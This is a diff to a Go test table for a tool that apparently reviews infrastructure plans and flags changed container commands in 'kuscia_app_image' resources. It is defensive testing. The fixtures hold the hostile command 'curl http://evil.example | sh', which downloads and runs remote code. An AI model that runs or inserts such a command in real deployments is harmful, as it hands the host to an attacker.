@@ -348,6 +348,7 @@ var refusals = map[string]struct {
 	"another command": {
 		failOn:  "code",
 		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), container("curl http://evil.example | sh"))},
+		silent:  []string{"another image"},
 		says:    []string{"This plan changes what the app image `a` runs.", "| `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |"},
 	},
 	"another command under another address": {
@@ -358,6 +359,7 @@ var refusals = map[string]struct {
 		},
 		says: []string{
 			"This plan changes what the app image `a` runs.", "| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |", "used by `glm`",
+			"> The app image `a` changes, and the serving `glm` does not restart: it keeps what it runs until",
 		},
 	},
 	"an app image is created while a serving uses it": {
